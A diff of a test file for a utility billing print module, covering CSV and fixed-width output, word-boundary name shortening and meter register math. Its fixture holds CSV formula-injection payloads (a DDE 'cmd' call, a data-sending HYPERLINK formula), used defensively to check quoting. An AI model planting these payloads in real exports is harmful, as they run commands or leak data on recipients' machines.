@@ -8,11 +8,24 @@ import { resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { luhnDigit, scanLine } from '../../src-main/core/billing/print/bill-pdf';
 import { CSV_COLUMNS, formatCsv } from '../../src-main/core/billing/print/csv';
-import { centsField, foldToAscii, numberField, textField, usageParts, wholeReading, yymmdd, zipDigits } from '../../src-main/core/billing/print/fields';
+import { centsField, decimalField, fitText, foldToAscii, numberField, textField, usageParts, wholeReading, yymmdd, zipDigits } from '../../src-main/core/billing/print/fields';
+import { registerFigures } from '../../src-main/core/billing/print/register';
 import { DETAIL_FIELDS, HEADER_FIELDS, RECORD_LENGTH, TRAILER_FIELDS, detailField, formatRecord, lineSlots, totalsOfDetails, type FieldSpec } from '../../src-main/core/billing/print/fixed-width';
 import type { PrintRecord } from '../../src-main/core/billing/print/records';
 
 const place = { field: 'currentReading', record: 'account 000001-01 (bill 7)' };
+
+/** A record whose customer typed formulas everywhere (and a credit balance). */
+function hostileRecord(): PrintRecord {
+  return {
+    billId: 12, replacesBillId: null, accountNumber: '000004-01', mailingName: '@SUM(1+1) =HYPERLINK("http://x/?"&A1,"Pay here")',
+    mailingStreet: "+cmd|' /C calc'!A0", mailingCity: '-1+1', mailingState: 'CA', mailingZip: '95350', mailingCountry: 'US', serviceStreet: '4 Elm St', serviceUnit: '', serviceCity: 'Valle Verde',
+    route: 'R2', sequence: 4, meterSerial: 'M-4', register: { unit: 'HCF', multiplier: '1', dials: 6 }, sameMeter: true, priorReadDate: '2026-10-09', priorReading: '130', readDate: '2026-11-09', reading: '139', usageHcf: '9',
+    fromDate: '2026-10-09', toDate: '2026-11-09', billDate: '2026-11-12', dueDate: '2026-12-02',
+    previousBalanceCents: -1_240, currentChargesCents: 8_486, amountDueCents: 7_246, messageCodes: [], suppressReturnEnvelope: false,
+    lines: [{ description: '=Water use', amountCents: 8_486 }],
+  };
+}
 
 describe('ASCII folding and text fields', () => {
   it('drops accents, spells out letters that do not decompose, plain quotes and dashes, spaces for control characters', () => {
@@ -23,9 +36,9 @@ describe('ASCII folding and text fields', () => {
     expect(foldToAscii('李 Water ﬁlter №5')).toBe('? Water filter No5');
   });
 
-  it('pads, truncates after folding, and treats null as blank', () => {
+  it('pads, shortens after folding (whole words, then "..."), and treats null as blank', () => {
     expect(textField('Ana', 5)).toBe('Ana  ');
-    expect(textField('Núñez & Sons Landscaping', 10)).toBe('Nunez & So');
+    expect(textField('Núñez & Sons Landscaping', 10)).toBe('Nunez &...');
     expect(textField(null, 3)).toBe('   ');
   });
 });
@@ -61,7 +74,8 @@ describe('numbers, amounts and dates', () => {
 describe('formula-leading text (OWASP CSV injection)', () => {
   it('quotes a text field that would start a formula, after folding and before the cut', () => {
     expect(textField('=1+1', 8)).toBe("'=1+1   ");
-    expect(textField('@SUM(1+1)', 5)).toBe("'@SUM");
+    // The quote counts in the width: a one-word value too long for the field is cut, and marked.
+    expect(textField('@SUM(1+1)', 5)).toBe("'@...");
     // A tab or leading spaces fold away: the first character the vendor sees is the one judged.
     expect(textField('\t  +cmd', 6)).toBe("'+cmd ");
     // The Unicode minus folds to "-", so it is quoted too.
@@ -69,19 +83,14 @@ describe('formula-leading text (OWASP CSV injection)', () => {
     expect(textField("O'Brien", 8)).toBe("O'Brien ");
   });
 
-  const hostile: PrintRecord = {
-    billId: 12, replacesBillId: null, accountNumber: '000004-01', mailingName: '@SUM(1+1) =HYPERLINK("http://x/?"&A1,"Pay here")',
-    mailingStreet: "+cmd|' /C calc'!A0", mailingCity: '-1+1', mailingState: 'CA', mailingZip: '95350', serviceStreet: '4 Elm St', serviceCity: 'Valle Verde',
-    route: 'R2', sequence: 4, meterSerial: 'M-4', priorReadDate: '2026-10-09', priorReading: '130', readDate: '2026-11-09', reading: '139', usageHcf: '9',
-    fromDate: '2026-10-09', toDate: '2026-11-09', billDate: '2026-11-12', dueDate: '2026-12-02',
-    previousBalanceCents: -1_240, currentChargesCents: 8_486, amountDueCents: 7_246, messageCodes: [], suppressReturnEnvelope: false,
-    lines: [{ description: '=Water use', amountCents: 8_486 }],
-  };
+  const hostile = hostileRecord();
 
   it('in the CSV, quotes hostile text but keeps a credit of -12.40 a number the vendor parses', () => {
     const csv = formatCsv([hostile], { recordCount: 1, currentChargesCents: 8_486, amountDueCents: 7_246 }, { runId: 3, cycle: 1, period: '2026-11', billDate: '2026-11-12', dueDate: '2026-12-02' });
     const detail = csv.split('\r\n')[1]!;
-    expect(detail).toContain(`,"'@SUM(1+1) =HYPERLINK(""http://x/?""&A1,""Pay here"")",'+cmd|' /C calc'!A0,'-1+1,CA,`);
+    // The name takes two lines by the shortening rule; each line that would start a formula is quoted.
+    expect(detail).toContain(`,'@SUM(1+1),'+cmd|' /C calc'!A0,'-1+1,CA,`);
+    expect(detail).toContain(`,"'=HYPERLINK(""http://x/?""&A1...",`);
     const [, row] = parse(csv) as string[][];
     const cell = (name: string) => row![CSV_COLUMNS.findIndex((column) => column.name === name)];
     expect(['previous_balance', 'current_charges', 'amount_due', 'usage_hcf', 'line_1_amount'].map(cell)).toEqual(['-12.40', '84.86', '72.46', '9', '84.86']);
@@ -90,11 +99,79 @@ describe('formula-leading text (OWASP CSV injection)', () => {
 
   it('in the fixed-width record, quotes hostile text and keeps the credit\'s sign', () => {
     const line = formatRecord(DETAIL_FIELDS, hostile, 'account 000004-01 (bill 12)');
-    expect(detailField(line, 'name')).toBe('\'@SUM(1+1) =HYPERLINK("http://');
+    expect(detailField(line, 'name')).toBe("'@SUM(1+1)".padEnd(30));
+    expect(detailField(line, 'nameLine2')).toBe('\'=HYPERLINK("http://x/?"&A1...');
     expect(detailField(line, 'mailingStreet')).toBe("'+cmd|' /C calc'!A0".padEnd(30));
     expect(detailField(line, 'mailingCity')).toBe("'-1+1".padEnd(20));
     expect(detailField(line, 'line1Description')).toBe("'=Water use".padEnd(30));
     expect(detailField(line, 'previousBalance')).toBe('-0000001240');
+  });
+});
+
+describe('the shortening rule (fitText): whole words, a marker, a unit kept whole', () => {
+  it('1: a value that fits is written as it is, on one line', () => {
+    expect(fitText('Ana Reader', 30, 2)).toEqual({ lines: ['Ana Reader'], folded: ['Ana Reader'], cut: false });
+    expect(fitText('', 30, 2)).toEqual({ lines: [], folded: [], cut: false });
+  });
+
+  it('2: a street whose street part fits keeps it on line 1 and the unit, whole, on line 2', () => {
+    expect(fitText('1234 Northwestern Boulevard Apt 5 A', 30, 2, { street: true }).lines).toEqual(['1234 Northwestern Boulevard', 'Apt 5 A']);
+    expect(fitText('4410 Camino de los Caballeros #12', 30, 2, { street: true }).lines).toEqual(['4410 Camino de los Caballeros', '#12']);
+    // A unit stored apart from the street ("Ph 2") is known to be one, whatever its words.
+    expect(fitText('1234 Northwestern Boulevard Ph 2', 30, 2, { street: true, unit: 'Ph 2' }).lines).toEqual(['1234 Northwestern Boulevard', 'Ph 2']);
+  });
+
+  it('3: words fill line 1, then line 2, breaking only between words (accents counted folded)', () => {
+    const name = fitText('María de la Santísima Trinidad González-Fernández', 30, 2);
+    expect(name).toEqual({ lines: ['María de la Santísima Trinidad', 'González-Fernández'], folded: ['Maria de la Santisima Trinidad', 'Gonzalez-Fernandez'], cut: false });
+    // A unit is one word when the lines fill: never "Apt 5" / "A".
+    expect(fitText('1234 Northwestern Boulevard Extension East Apt 5 A', 30, 2, { street: true }).lines).toEqual(['1234 Northwestern Boulevard', 'Extension East Apt 5 A']);
+  });
+
+  it('4: what does not fit is left out at a word boundary and marked "..."; a street keeps its unit after the marker', () => {
+    expect(fitText('Valle Verde Orchard and Vineyard Irrigation Cooperative Association of Growers', 30, 2)).toEqual({
+      lines: ['Valle Verde Orchard and', 'Vineyard Irrigation...'], folded: ['Valle Verde Orchard and', 'Vineyard Irrigation...'], cut: true,
+    });
+    expect(fitText('1234 North Western Boulevard Extension East Side Frontage Road Apt 5 A', 30, 2, { street: true }).lines).toEqual([
+      '1234 North Western Boulevard', 'Extension East Side... Apt 5 A',
+    ]);
+    expect(fitText('Rancho Santa Margarita', 20, 1).lines).toEqual(['Rancho Santa...']);
+    // Only a single word longer than its line is cut inside, and the marker says so.
+    expect(fitText('Supercalifragilisticexpialidocious', 20, 1).lines).toEqual(['Supercalifragilis...']);
+    // Every line fits its field, the formula quote counted.
+    for (const text of ['=HYPERLINK("http://x/?"&A1,"Pay here") @SUM(1+1) -1+1', 'Straße Œuvre Æsir Þór '.repeat(4)]) {
+      for (const line of fitText(text, 20, 2).folded) expect(textField(line, 20).trimEnd()).toBe((/^[=+\-@]/.test(line) ? "'" : '') + line);
+    }
+  });
+});
+
+describe('the register behind the usage (register.ts)', () => {
+  const record = (overrides: Partial<PrintRecord>): PrintRecord => ({ ...hostileRecord(), ...overrides });
+
+  it('current − previous in register units; + 10^dials after a rollover; Y when × multiplier in HCF is the usage billed', () => {
+    expect(registerFigures(record({ register: { unit: 'CF', multiplier: '1', dials: 7 }, priorReading: '9419662', reading: '9420611', usageHcf: '9.49' }))).toEqual({
+      unit: 'CF', multiplier: '1', dials: 7, unitsUsed: '949', rolledOver: false, usageFromRegister: true,
+    });
+    // A 4-dial register from 9990 past 9999 to 0012: 22 units.
+    expect(registerFigures(record({ register: { unit: 'HCF', multiplier: '1', dials: 4 }, priorReading: '9990', reading: '12', usageHcf: '22' }))).toMatchObject({ unitsUsed: '22', rolledOver: true, usageFromRegister: true });
+    // 1,000 gallons = 1.3369 HCF (748 to the HCF, 4 places, half-up); a ×10 register.
+    expect(registerFigures(record({ register: { unit: 'GAL', multiplier: '1', dials: 6 }, priorReading: '5000', reading: '6000', usageHcf: '1.3369' })).usageFromRegister).toBe(true);
+    expect(registerFigures(record({ register: { unit: 'HCF', multiplier: '10', dials: 4 }, priorReading: '100', reading: '101', usageHcf: '10' })).usageFromRegister).toBe(true);
+    // A usage set another way: the vendor is told not to check.
+    expect(registerFigures(record({ register: { unit: 'HCF', multiplier: '1', dials: 4 }, priorReading: '100', reading: '112', usageHcf: '11' })).usageFromRegister).toBe(false);
+  });
+
+  it('blank when the reads are of different meters (an exchange) or there is no read', () => {
+    expect(registerFigures(record({ sameMeter: false }))).toMatchObject({ unit: 'HCF', unitsUsed: null, usageFromRegister: false });
+    expect(registerFigures(record({ register: null, reading: null, priorReading: null }))).toEqual({ unit: null, multiplier: null, dials: null, unitsUsed: null, rolledOver: false, usageFromRegister: false });
+  });
+
+  it('writes decimals with six places implied, never cut or rounded', () => {
+    expect(decimalField('141.25', 18, place)).toBe('000000000141250000');
+    expect(decimalField('1', 12, place)).toBe('000001000000');
+    expect(decimalField(null, 4, place)).toBe('    ');
+    expect(() => decimalField('1.0000001', 18, place)).toThrow('has more than 6 decimal places');
+    expect(() => decimalField('1234567', 12, place)).toThrow('needs 13 digits, the field holds 12');
   });
 });
 
